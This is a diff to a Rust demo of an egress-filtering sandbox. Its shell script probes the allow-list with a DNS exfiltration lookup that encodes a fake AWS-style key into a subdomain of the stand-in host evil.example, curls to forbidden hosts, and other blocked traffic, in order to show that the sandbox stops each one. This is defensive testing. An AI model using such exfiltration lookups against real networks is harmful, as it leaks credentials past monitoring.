@@ -2,8 +2,10 @@
 //!
 //! It makes a network namespace with two fake HTTPS upstreams, `api.allowed.example` and
 //! `evil.example`, signed by a throw-away CA, then runs a short shell script in a sandbox that
-//! allows only `api.allowed.example`. The script tries the allowed API, the forbidden host, an
-//! IP literal, a UDP datagram, a ping and a plain-HTTP request, saying what each step shows.
+//! allows only `api.allowed.example`. The script tries the allowed API by name (through the
+//! sandbox's DNS), a DNS exfiltration lookup, the forbidden host (also under the allowed
+//! host's address), an IP literal, a UDP datagram, a ping and a plain-HTTP request, saying what
+//! each step shows.
 //! Afterwards it prints the audit log as a table and egressd's summary line.
 //!
 //! Network rule (`shared/TOOLCHAIN.md`): the sandbox has its own netns with only loopback,
@@ -41,7 +43,7 @@ fn main() -> ExitCode {
         evil_http.addr()
     );
     println!(
-        "setup: the sandbox only allows api.allowed.example; the proxy resolves names with --resolve\n"
+        "setup: the sandbox only allows api.allowed.example; egressd resolves names with --resolve\n"
     );
 
     let ca = ca_pem.display();
@@ -50,17 +52,21 @@ fn main() -> ExitCode {
         r#"
 exec 2>&1
 step() {{ printf '\n--- %s\n' "$*"; }}
-step "1/6 curl the allowed API: TLS passes through untouched, curl checks the upstream's own certificate"
-curl -sS --max-time 10 --cacert {ca} --resolve api.allowed.example:443:192.0.2.10 https://api.allowed.example/; echo " [curl exit $?]"
-step "2/6 curl a forbidden host: the proxy reads the name from the ClientHello and closes the connection"
+step "1/8 curl the allowed API by name: the sandbox's DNS answers it, TLS passes through untouched, curl checks the upstream's own certificate"
+curl -sS --max-time 10 --cacert {ca} https://api.allowed.example/; echo " [curl exit $?]"
+step "2/8 look up a name that carries data (DNS exfiltration): answered NXDOMAIN inside the sandbox, nothing leaves"
+getent hosts "$(echo 'AKIA-secret' | base64 | tr -d '=\n').evil.example"; echo " [getent exit $?: not found]"
+step "3/8 curl a forbidden host the agent knows the address of: the proxy reads the name from the ClientHello and closes the connection"
 curl -sS --max-time 10 --cacert {ca} --resolve evil.example:443:192.0.2.66 https://evil.example/; echo " [curl exit $?]"
-step "3/6 curl an IP literal: there is no name to allow, so it is denied"
+step "4/8 curl the forbidden name with the ALLOWED host's address: the decision follows the name, not the address"
+curl -sS --max-time 10 --cacert {ca} --resolve evil.example:443:192.0.2.10 https://evil.example/; echo " [curl exit $?]"
+step "5/8 curl an IP literal: there is no name to allow, so it is denied"
 curl -sS --max-time 10 -k https://192.0.2.10/; echo " [curl exit $?]"
-step "4/6 send a UDP datagram to 192.0.2.53:9999: the kernel refuses it (EPERM)"
+step "6/8 send a UDP datagram to 192.0.2.53:9999 (think QUIC): the kernel refuses it (EPERM)"
 {probe} udp 192.0.2.53:9999
-step "5/6 ping 192.0.2.1: ICMP never leaves the sandbox"
+step "7/8 ping 192.0.2.1: ICMP never leaves the sandbox"
 ping -c 1 -W 2 192.0.2.1 2>&1 | tail -n 2; echo " [ping done]"
-step "6/6 plain HTTP to the forbidden host: the proxy answers 403 with the reason"
+step "8/8 plain HTTP to the forbidden host: the proxy answers 403 with the reason"
 curl -sS --max-time 10 --resolve evil.example:80:192.0.2.66 -w ' [HTTP %{{http_code}}]' http://evil.example/; echo " [curl exit $?]"
 "#
     );
@@ -108,7 +114,7 @@ fn print_table(records: &[Value]) {
         return;
     }
     let columns = [
-        "decision", "proto", "name", "port", "orig_dst", "upstream", "rule", "reason",
+        "decision", "proto", "qtype", "name", "port", "orig_dst", "upstream", "rule", "reason",
     ];
     let rows: Vec<Vec<String>> = records
         .iter()
